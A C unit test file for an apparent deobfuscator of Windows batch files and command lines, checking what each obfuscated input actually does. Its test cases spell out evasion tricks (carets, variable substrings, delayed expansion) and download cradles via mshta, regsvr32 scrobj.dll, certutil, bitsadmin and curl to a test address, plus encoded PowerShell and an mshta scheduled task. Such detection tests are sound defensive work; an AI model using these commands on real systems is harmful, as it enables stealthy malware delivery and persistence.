/* SPDX-License-Identifier: Apache-2.0 */
/* Command lines and batch files by hand: what they do, and how certain that is. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "unmask/effect_rows.h"

static const struct effect_row cases[] = {
    { "carets", "batch", "c^a^l^c 1", EFFECT_RUN, "command", "calc 1", KNOWN },
    { "carets in quotes stay", "batch", "calc \"a^b\"", EFFECT_RUN, "command", "calc \"a^b\"",
      KNOWN },
    { "variables joined", "batch", "set a=ca\nset b=lc\n%a%%b% 1", EFFECT_RUN, "command", "calc 1",
      KNOWN },
    { "substring of PUBLIC", "command", "cmd /c %PUBLIC:~14,1%alc 1", EFFECT_RUN, "command",
      "calc 1", KNOWN },
    { "substring from the end of TEMP", "command", "cmd /c calc %TEMP:~-4,2%", EFFECT_RUN,
      "command", "calc Te", KNOWN },
    { "substring of a user name is not known", "command", "cmd /c calc %USERNAME:~0,1%", EFFECT_RUN,
      "command", "calc ⟂", PARTIAL },
    { "replaced", "batch", "set a=cXalXc\n%a:X=% 1", EFFECT_RUN, "command", "calc 1", KNOWN },
    { "usual variables stay by name", "batch", "start %TEMP%\\a.exe 1", EFFECT_RUN, "command",
      "%TEMP%\\a.exe 1", KNOWN },
    { "undefined in a file is nothing", "batch", "ca%nosuch%lc 1", EFFECT_RUN, "command", "calc 1",
      KNOWN },
    { "undefined on a line stays", "command", "cmd /c calc %nosuch%", EFFECT_RUN, "command",
      "calc %nosuch%", KNOWN },
    { "delayed", "command", "cmd /V:ON /C\"set A=ca&&set B=lc&&!A!!B! 1\"", EFFECT_RUN, "command",
      "calc 1", KNOWN },
    { "delayed, not defined", "command", "cmd /V:ON /C\"set A=ca&&!A!!B!lc\"", EFFECT_RUN, "command",
      "ca!B!lc", KNOWN },
    { "not delayed", "command", "cmd /C\"set A=ca&&!A!lc 1\"", EFFECT_RUN, "command", "!A!lc 1",
      KNOWN },
    { "alphabet and list", "command",
      "cmd /V:ON/C\"set Q=abcdefghijklmnopqrstuvwxyz &&for %n in (2;0;11;2;99) do set "
      "R=!R!!Q:~%n,1!&&if %n==99 call %R:~3%\"",
      EFFECT_RUN, "command", "calc", KNOWN },
    { "a sign in what is replaced", "command", "cmd /v:on /c \"set q=!q!calc&echo !q:*q!=! 1|cmd\"", EFFECT_RUN, "command", "calc 1", KNOWN },
    { "two references, no sign in between", "command", "cmd /v:on /c \"set q=ca&set r=lc&!q:~0,2!!r! a=1\"", EFFECT_RUN, "command", "calc a=1", KNOWN },
    { "for /l", "command",
      "cmd /v:on /c \"set s=1clac&(for /l %i in (4,-1,1) do set t=!t!!s:~%i,1!)&call %t:~3% 1\"",
      EFFECT_RUN, "command", "calc 1", KNOWN },
    { "for /f over a text", "batch", "for /f \"tokens=2 delims=;\" %%a in (\"x;calc;y\") do %%a 1",
      EFFECT_RUN, "command", "calc 1", KNOWN },
    { "echo piped to cmd", "batch", "echo calc 1|cmd", EFFECT_RUN, "command", "calc 1", KNOWN },
    { "path that goes up", "command",
      "c:\\aaaa\\bbbb\\..\\..\\windows\\system32\\cmd.exe /c calc 1", EFFECT_RUN, "command",
      "calc 1", KNOWN },
    { "if that holds", "batch", "if \"a\"==\"a\" (calc 1) else calc 2", EFFECT_RUN, "command",
      "calc 1", KNOWN },
    { "if that does not", "batch", "if \"a\"==\"b\" (calc 1) else calc 2", EFFECT_RUN, "command",
      "calc 2", KNOWN },
    { "if on a file is open", "batch", "if exist x.txt calc 1", EFFECT_RUN, "command", "calc 1",
      CONDITIONAL },
    { "goto", "batch", "goto b\ncalc 1\n:b\ncalc 2", EFFECT_RUN, "command", "calc 2", KNOWN },
    { "a comment does nothing", "batch", "rem calc 1\n::calc 2", EFFECT_RUN, "command", "", NONE },
    { "an endless loop ends", "batch", ":a\nset x=%x%y\ngoto a", EFFECT_RUN, "command", "", NONE },
    { "echo alone runs nothing", "batch", "@echo off\necho calc 1 ^& calc 2", EFFECT_RUN, "command",
      "", NONE },
    { "no shell, no operators", "command", "calc a&b|c", EFFECT_RUN, "command", "", NONE },
    { "no shell for powershell", "command", "powershell -c \"'Start-Sleep 7'|iex\"", EFFECT_DELAY,
      "value", "7", KNOWN },
    { "mshta", "command", "mshta http://192.0.2.1/a.html", EFFECT_DOWNLOAD, "url",
      "http://192.0.2.1/a.html", KNOWN },
    { "carets in a url", "command", "cmd /c m^sh^t^a h^tt^p^:/^/0xC0000201/a.html", EFFECT_DOWNLOAD,
      "url", "http://192.0.2.1/a.html", KNOWN },
    { "regsvr32", "command", "regsvr32 /s ..\\a.ocx", EFFECT_LOAD, "path", "..\\a.ocx", KNOWN },
    { "regsvr32 from afar", "command", "regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll",
      EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a.sct", KNOWN },
    { "rundll32", "command", "rundll32 C:\\ProgramData\\a.dll,ssss", EFFECT_LOAD, "function",
      "ssss", KNOWN },
    { "certutil", "command", "certutil -urlcache -split -f http://192.0.2.1/a.txt b.txt",
      EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
    { "curl", "command", "cmd /c curl -s -o %TEMP%\\b.txt http://192.0.2.1/a", EFFECT_DOWNLOAD,
      "path", "%TEMP%\\b.txt", KNOWN },
    { "bitsadmin", "command", "bitsadmin /transfer j /download http://192.0.2.1/a C:\\b.txt",
      EFFECT_DOWNLOAD, "path", "C:\\b.txt", KNOWN },
    { "message", "command", "cmd /c msg %username% /v Word experienced an error", EFFECT_MESSAGE,
      "text", "Word experienced an error", KNOWN },
    { "encoded powershell", "command",
      "powershell -w hidden -enc UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAANQA=", EFFECT_DELAY, "value", "5",
      KNOWN },
    { "a script that is written and run", "batch",
      "echo curl http://192.0.2.1/a -o b.txt>>x.cmd\nstart x.cmd", EFFECT_DOWNLOAD, "url",
      "http://192.0.2.1/a", KNOWN },
    { "undefined !name! stays on a line", "command", "cmd /v:on /c calc !nosuch! !nosuch:~2,1!",
      EFFECT_RUN, "command", "calc !nosuch! !nosuch:~2,1!", KNOWN },
    { "undefined !name! is nothing in a file", "batch",
      "setlocal enabledelayedexpansion\ncalc!nosuch! 1", EFFECT_RUN, "command", "calc 1", KNOWN },
    { "blanks in a substring", "command", "cmd /v:on /c \"set s=xcalc&call %s:~  1,   9% 1\"",
      EFFECT_RUN, "command", "calc 1", KNOWN },
    { "counts in hexadecimal and octal", "command", "cmd /c calc %PUBLIC:~0x3,010%", EFFECT_RUN,
      "command", "calc Users\\Pu", KNOWN },
    { "rubbish before the switch", "command", "cmd one two & %three% /V /c calc 1", EFFECT_RUN,
      "command", "calc 1", KNOWN },
    { "percents of a pipe count again", "command",
      "cmd /v:on /c \"set a=c^%ProgramData:~8,1^%lc 1&&echo %a%|cmd\"", EFFECT_RUN, "command",
      "calc 1", KNOWN },
    { "carets of a pipe count again", "batch", "echo calc ^^^& calc 2|cmd", EFFECT_RUN, "command",
      "calc 2", KNOWN },
    { "what a pipe uncovers is parted", "batch", "set /a x=1&echo 1^&calc 3|more", EFFECT_RUN,
      "command", "calc 3", KNOWN },
    { "the shell by its file type", "command",
      "cmd /v:on /c \"set x=calc 1&&echo !x!|for /f \"tokens=1 delims=fk\" %c in ('ftype^^^|find "
      "\"cm\"') do %c\"",
      EFFECT_RUN, "command", "calc 1", KNOWN },
    { "powershell by an association", "batch",
      "for /f \"tokens=2 delims=.C\" %%g in ('assoc .cdxml') do %%g -c calc", EFFECT_RUN, "command",
      "PowerShell -c calc", KNOWN },
    { "powershell by a variable of Windows", "command",
      "cmd /c for /f \"delims=s\\ tokens=4\" %a in ('set^|findstr PSM') do %a -c calc", EFFECT_RUN,
      "command", "PowerShell -c calc", KNOWN },
    { "findstr with a pattern is not known", "batch",
      "for /f %%g in ('assoc^|findstr /r \"c.d\"') do calc %%g", EFFECT_RUN, "command", "calc ⟂",
      PARTIAL },
    { "no such association", "batch", "for /f %%g in ('assoc .nosuch') do calc %%g", EFFECT_RUN,
      "command", "calc ⟂", PARTIAL },
    { "what has been written is read", "batch",
      "echo calc one>a.txt\nfor /f \"delims=\" %%g in ('type a.txt') do %%g", EFFECT_RUN, "command",
      "calc one", KNOWN },
    { "quotes of wmic", "command", "wmic process call create \"cmd /c calc \"\\\"1 2\"\\\"\"",
      EFFECT_RUN, "command", "calc \\\"1 2\\\"", KNOWN },
    { "a variable that powershell reads", "command",
      "cmd /c \"set x=Start-Sleep 7&&powershell -c iex $env:x\"", EFFECT_DELAY, "value", "7",
      KNOWN },
    { "a variable that a shell inherits", "command", "cmd /c \"set x=calc&&cmd /c %x% 1\"",
      EFFECT_RUN, "command", "calc 1", KNOWN },
    { "scheduled task", "command",
      "schtasks /create /tn n /tr \"mshta http://192.0.2.1/a\" /sc minute", EFFECT_PERSIST, "name",
      "n", KNOWN },
};

static void effects(void **state)
{
    (void)state;
    struct table t = { 0 };
    TABLE_EACH (&t, row, cases)
        effect_row_check(&t, row);
}

static const char busy[] = "@echo off\nset a=ca^l\nif exist x (set b=c) else goto e\nfor /f \"tokens=1,2* delims=;\" %%a in (\"x;y;z\") do echo %%a>>x.vbs\nfor /l %%i in (1,1,3) do call %a:~0,1%%%i\n:e\npowershell -e QQA= | cmd /v:on /c \"!a!\"";

static void every_beginning(void **state)
{
    (void)state;
    tally_beginnings("batch", slice_of(busy));
}

/* What is not followed to its end is not clean. */
static void cut_off_is_said(void **state)
{
    (void)state;
    static const struct {
        const char *name, *code;
    } cut[] = {
        { "rounds", "for /l %%i in (1,1,100000) do if %%i==99999 powershell x" },
        { "conditions", "if exist a (if exist b (if exist c (if exist d (if exist e (if exist f (if exist g (if exist h (powershell x))))))))" },
        { "calls of a label by itself", "call :a\r\ngoto :eof\r\n:a\r\ncall :a\r\n" },
        { "a loop of GOTO that goes on changing", "set n=1\r\n:a\r\nset n=%n%1\r\ngoto a\r\n" },
        { "shells", "cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c powershell x" },
    };
    struct table t = { 0 };
    TABLE_EACH (&t, row, cut) {
        struct tally *r = tally_unmasked("batch", NULL, slice_of(row->code));
        table_true(&t, row->name, tally_unread(r, UNREAD_LIMIT));
        tally_drop(&r);
    }
}

static void memory_fails_anywhere(void **state)
{
    (void)state;
    tally_starved("batch", slice_of(busy), 200);
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(effects), cmocka_unit_test(cut_off_is_said), cmocka_unit_test(every_beginning), cmocka_unit_test(memory_fails_anywhere) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
